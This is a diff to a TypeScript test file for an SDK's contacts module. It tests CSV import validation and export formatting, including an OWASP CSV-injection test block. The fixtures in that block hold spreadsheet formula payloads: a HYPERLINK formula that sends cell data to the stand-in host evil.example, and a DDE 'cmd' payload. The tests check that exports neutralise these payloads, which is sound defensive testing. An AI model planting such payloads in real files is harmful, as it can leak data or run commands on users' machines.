@@ -1,4 +1,6 @@
+import * as fc from 'fast-check';
 import nock from 'nock';
+import Papa from 'papaparse';
 import {
   createContactsModule,
   SipgateIOPartialFailureError,
@@ -53,33 +55,94 @@ describe('CSV import', () => {
     await createContactsModule(testClient()).importFromCsvString(csv);
   });
 
-  it('names a missing required column', async () => {
+  it('refuses a missing required column with the established text', async () => {
     const error = await createContactsModule(testClient()).importFromCsvString('firstname,surname,number\nA,B,+4921163553355').catch((e: unknown) => e);
     expect(error).toBeInstanceOf(SipgateIOValidationError);
-    expect((error as Error).message).toMatch(/missing the column "lastname"/);
+    expect(error).toMatchObject({ message: 'Missing header field in CSV: lastname', field: 'csvContent', detail: expect.stringMatching(/column "lastname"/) });
   });
 
-  it('warns about empty records and rows without a number, and imports the rest', async () => {
-    const { warnings, logger } = captureLogger();
+  it('refuses an empty text, a non-string and an unterminated quote as an invalid CSV string', async () => {
+    const contacts = createContactsModule(testClient());
+    for (const input of ['', '\n\r\n', 42 as unknown as string]) {
+      await expect(contacts.importFromCsvString(input)).rejects.toMatchObject({ name: 'SipgateIOValidationError', message: 'Invalid CSV string' });
+    }
+    await expect(contacts.importFromCsvString('firstname,lastname,number\n"A,B,+4921163553355')).rejects.toMatchObject({
+      message: 'Invalid CSV string',
+      detail: expect.stringMatching(/malformed CSV at row 2/),
+    });
+  });
+
+  // Row 2 has no number, row 4 no name, row 5 too few fields, row 6 too many; rows 3 and 7 are fine.
+  const withGaps = [
+    'firstname,lastname,number',
+    'Alan,Turing,',
+    'Ada,Lovelace,+4921163553356',
+    ',,+4921163553357',
+    'Grace,Hopper',
+    'Edsger,Dijkstra,+4921163553358,extra',
+    'Barbara,Liskov,+4921163553359',
+    '',
+  ].join('\n');
+
+  it('refuses the whole import before any write when rows lack values, naming the rows and fields', async () => {
+    // isolateNetwork: any request would fail the test.
+    const error = await createContactsModule(testClient()).importFromCsvString(withGaps).catch((e: unknown) => e);
+    expect(error).toBeInstanceOf(SipgateIOValidationError);
+    const { message, detail } = error as SipgateIOValidationError;
+    expect(message).toBe('Missing values in CSV');
+    expect(detail).toMatch(/row 2 \(number\)/);
+    expect(detail).toMatch(/row 4 \(firstname and lastname\)/);
+    expect(detail).toMatch(/row 5 \(2 fields, the header has 3\)/);
+    expect(detail).toMatch(/row 6 \(4 fields, the header has 3\)/);
+    expect(detail).toMatch(/skipInvalidRows/);
+    // Values never appear, only positions and column names.
+    expect(JSON.stringify((error as SipgateIOValidationError).toJSON())).not.toMatch(/Turing|Hopper|Dijkstra|4921163553357/);
+  });
+
+  it('with { skipInvalidRows: true } imports the other rows and lists what it skipped', async () => {
+    const scope = expectImport('firstname,lastname,number\nAda,Lovelace,+4921163553356\nBarbara,Liskov,+4921163553359');
+    const result = await createContactsModule(testClient()).importFromCsvString(withGaps, { skipInvalidRows: true });
+    expect(scope.isDone()).toBe(true);
+    expect(result).toEqual({
+      imported: 2,
+      skipped: [
+        { row: 2, reason: 'missing_values', fields: ['number'] },
+        { row: 4, reason: 'missing_values', fields: ['firstname', 'lastname'] },
+        { row: 5, reason: 'field_count', fields: ['number'] },
+        { row: 6, reason: 'field_count', fields: [] },
+      ],
+    });
+  });
+
+  it('counts rows as a spreadsheet shows them and skips blank ones like empty lines', async () => {
+    // Row 2 is empty, row 3 holds a quoted line break, rows 4 and 5 are blank, row 6 lacks a number.
+    const csv = 'firstname,lastname,number\n\n"Zoë\nMarie",Müller,+4915799912345\n,,\n , ,\nAlan,Turing,\n';
+    await expect(createContactsModule(testClient()).importFromCsvString(csv)).rejects.toMatchObject({ message: 'Missing values in CSV', detail: expect.stringMatching(/: row 6 \(number\)\./) });
+    expectImport('firstname,lastname,number\n"Zoë\nMarie",Müller,+4915799912345');
+    await expect(createContactsModule(testClient()).importFromCsvString(csv, { skipInvalidRows: true })).resolves.toEqual({
+      imported: 1,
+      skipped: [{ row: 6, reason: 'missing_values', fields: ['number'] }],
+    });
+  });
+
+  it('refuses a number that is not a phone number, or skips it on request', async () => {
+    const contacts = createContactsModule(testClient());
+    const csv = 'firstname,lastname,number\nA,B,call me\nAda,Lovelace,+4921163553356\n';
+    await expect(contacts.importFromCsvString(csv)).rejects.toMatchObject({ name: 'SipgateIOValidationError', message: expect.stringMatching(/row 2.*not a phone number/) });
     expectImport('firstname,lastname,number\nAda,Lovelace,+4921163553356');
-    await createContactsModule(testClient({ logger })).importFromCsvString('firstname,lastname,number\n,,\n\n ,  ,\nAlan,Turing,\nAda,Lovelace,+4921163553356\n');
-    expect(warnings).toEqual([
-      expect.stringMatching(/record 1 is empty/),
-      expect.stringMatching(/record 2 is empty/),
-      expect.stringMatching(/record 3 has no number/),
-    ]);
+    await expect(contacts.importFromCsvString(csv, { skipInvalidRows: true })).resolves.toEqual({ imported: 1, skipped: [{ row: 2, reason: 'invalid_number', fields: ['number'] }] });
   });
 
   it('warns and sends nothing for a header-only CSV', async () => {
     const { warnings, logger } = captureLogger();
     await createContactsModule(testClient({ logger })).importFromCsvString('firstname,lastname,number\n');
     expect(warnings).toEqual([expect.stringMatching(/no contacts/)]);
+    await expect(createContactsModule(testClient({ logger })).importFromCsvString('firstname,lastname,number\n', { skipInvalidRows: true })).resolves.toEqual({ imported: 0, skipped: [] });
   });
 
-  it('rejects an invalid number and an unterminated quote', async () => {
-    const contacts = createContactsModule(testClient());
-    await expect(contacts.importFromCsvString('firstname,lastname,number\nA,B,call me')).rejects.toBeInstanceOf(SipgateIOValidationError);
-    await expect(contacts.importFromCsvString('firstname,lastname,number\n"A,B,+4921163553355')).rejects.toThrow(/malformed CSV/);
+  it('passes no option of its own on to the request', async () => {
+    expectImport('firstname,lastname,number\nAda,Lovelace,+4921163553356');
+    await createContactsModule(testClient()).importFromCsvString('firstname,lastname,number\nAda,Lovelace,+4921163553356', { skipInvalidRows: false, timeout: 5_000 });
   });
 });
 
@@ -256,9 +319,17 @@ describe('contacts CRUD and export', () => {
 
   it('exports CSV with a custom delimiter and quoting, vCards and JSON', async () => {
     const items = [contact('1', 'PRIVATE', { name: 'Müller; Anna', emails: [{ email: 'a@b.de', type: [] }], organization: [['ACME', 'Sales']] })];
-    nock(API).get('/contacts').query(true).times(4).reply(200, { items });
+    nock(API).get('/contacts').query(true).times(5).reply(200, { items });
     const contacts = createContactsModule(testClient());
-    expect(await contacts.exportAsCsv('PRIVATE', ';')).toBe('id;name;emails;numbers;addresses;organization;scope\n1;"Müller; Anna";a@b.de;+4921163553355;;ACME / Sales;PRIVATE');
+    // The established library's columns and quoting: the header and every text cell in quotes.
+    expect(await contacts.exportAsCsv('PRIVATE', ';')).toBe(
+      '"id";"name";"emails";"numbers";"addresses";"organizations"\n"1";"Müller; Anna";"a@b.de";"+4921163553355";"";"ACME / Sales"',
+    );
+    // This SDK's extra column only on request.
+    expect(await contacts.exportAsCsv('PRIVATE', ',', undefined, undefined, { extraColumns: ['scope'] })).toBe(
+      '"id","name","emails","numbers","addresses","organizations","scope"\n"1","Müller; Anna","a@b.de","+4921163553355","","ACME / Sales","PRIVATE"',
+    );
+    await expect(contacts.exportAsCsv('PRIVATE', ',', undefined, undefined, { extraColumns: ['picture' as 'scope'] })).rejects.toMatchObject({ field: 'options.extraColumns' });
     expect(await contacts.exportAsVCards('ALL')).toEqual([contactToVCard(items[0])]);
     expect(await contacts.exportAsSingleVCard('ALL')).toBe(contactToVCard(items[0]));
     // The established library's JSON shape: emails and numbers as plain strings, `organizations`, and the total.
@@ -268,6 +339,66 @@ describe('contacts CRUD and export', () => {
     });
     await expect(contacts.exportAsCsv('PRIVATE', '"')).rejects.toMatchObject({ field: 'delimiter' });
     nock.cleanAll();
+  });
+
+  describe('CSV injection (OWASP): cells a spreadsheet would run as formulas', () => {
+    const address = (streetAddress: string) => ({ poBox: '', extendedAddress: '', streetAddress, locality: '', region: '', postalCode: '', country: '' });
+    const items = [
+      contact('1', 'PRIVATE', {
+        name: '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
+        emails: [{ email: '@SUM(1+1)@example.com', type: [] }],
+        numbers: [{ number: '+4915799912345', type: [] }, { number: '+4921163553355', type: [] }],
+        addresses: [address('\tTab Street 1')],
+        organization: [["-2+3+cmd|' /C calc'!A0"]],
+      }),
+      contact('2', 'PRIVATE', { name: '+4915799912345', numbers: [{ number: '+49 157 99912345', type: [] }], organization: [['\rCR Ltd']] }),
+      contact('3', 'PRIVATE', { name: '+1-1', emails: [{ email: '+x@example.com', type: [] }], numbers: [{ number: '-1', type: [] }] }),
+      contact('4', 'PRIVATE', { name: 'Ada Lovelace', emails: [{ email: 'ada@example.com', type: [] }], organization: [['ACME = fun']] }),
+    ];
+    const cellsOf = (csv: string): string[][] => Papa.parse<string[]>(csv).data.slice(1);
+
+    it('prefixes them with a single quote, leaving phone numbers and other cells as they are', async () => {
+      nock(API).get('/contacts').query(true).reply(200, { items });
+      expect(cellsOf(await createContactsModule(testClient()).exportAsCsv('PRIVATE'))).toEqual([
+        ['1', `'=HYPERLINK("https://evil.example/?x="&A1,"Click")`, "'@SUM(1+1)@example.com", '+4915799912345, +4921163553355', "'\tTab Street 1", "'-2+3+cmd|' /C calc'!A0"],
+        ['2', '+4915799912345', '', '+49 157 99912345', '', "'\rCR Ltd"],
+        ['3', "'+1-1", "'+x@example.com", "'-1", '', ''],
+        ['4', 'Ada Lovelace', 'ada@example.com', '+4921163553355', '', 'ACME = fun'],
+      ]);
+    });
+
+    it('does the same in every CSV export and in the extra columns', async () => {
+      nock(API).get('/contacts').query(true).times(2).reply(200, { items: items.slice(0, 1) });
+      const contacts = createContactsModule(testClient());
+      const { response } = await contacts.paginatedExportAsCsv('PRIVATE', ';', { offset: 0, limit: 10 });
+      let streamed = '';
+      for await (const chunk of contacts.iterateCsv('PRIVATE', { extraColumns: ['scope'] })) streamed += chunk;
+      for (const csv of [response, streamed]) expect(cellsOf(csv)[0][1]).toBe(`'=HYPERLINK("https://evil.example/?x="&A1,"Click")`);
+    });
+
+    it('no exported cell starts a formula, whatever the contact holds (property)', async () => {
+      const formulaStart = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '');
+      const text = fc.tuple(formulaStart, fc.string({ maxLength: 12 })).map(([start, rest]) => start + rest);
+      const generated = fc.array(
+        fc.record({ name: text, email: text, number: fc.oneof(text, fc.constantFrom('+4915799912345', '+49 211 63553355')), org: text, street: text }),
+        { minLength: 1, maxLength: 5 },
+      );
+      await fc.assert(
+        fc.asyncProperty(generated, async (people) => {
+          const list = people.map((p, i) =>
+            contact(`c${i}`, 'PRIVATE', { name: p.name, emails: [{ email: p.email, type: [] }], numbers: [{ number: p.number, type: [] }], organization: [[p.org]], addresses: [address(p.street)] }),
+          );
+          nock(API).get('/contacts').query(true).reply(200, { items: list });
+          const rows = cellsOf(await createContactsModule(testClient()).exportAsCsv('PRIVATE'));
+          for (const cell of rows.flat()) {
+            // Only a phone number (or a list of them) may start with + and stay as it is.
+            if (/^[=+\-@\t\r]/.test(cell)) expect(cell).toMatch(/^\+[\d ()./-]+(, \+[\d ()./-]+)*$/);
+          }
+          nock.cleanAll();
+        }),
+        { numRuns: 40 },
+      );
+    });
   });
 
   describe('streaming exports', () => {
@@ -293,7 +424,11 @@ describe('contacts CRUD and export', () => {
       servePages();
       const chunks = await collect(contacts.iterateCsv('PRIVATE', { delimiter: ';' }));
       expect(chunks.join('')).toBe(whole);
-      expect(chunks[0]).toBe('id;name;emails;numbers;addresses;organization;scope\n');
+      expect(chunks[0]).toBe('"id";"name";"emails";"numbers";"addresses";"organizations"\n');
+      servePages();
+      const withScope = await collect(contacts.iterateCsv('PRIVATE', { extraColumns: ['scope'] }));
+      expect(withScope[0]).toBe('"id","name","emails","numbers","addresses","organizations","scope"\n');
+      expect(withScope[1].split('\n')[0]).toMatch(/,"PRIVATE"$/);
       expect(chunks).toHaveLength(3); // header, 100 rows, the remaining 87
       expect(whole.split('\n')).toHaveLength(1 + everyone.filter((c) => c.scope === 'PRIVATE').length);
     });
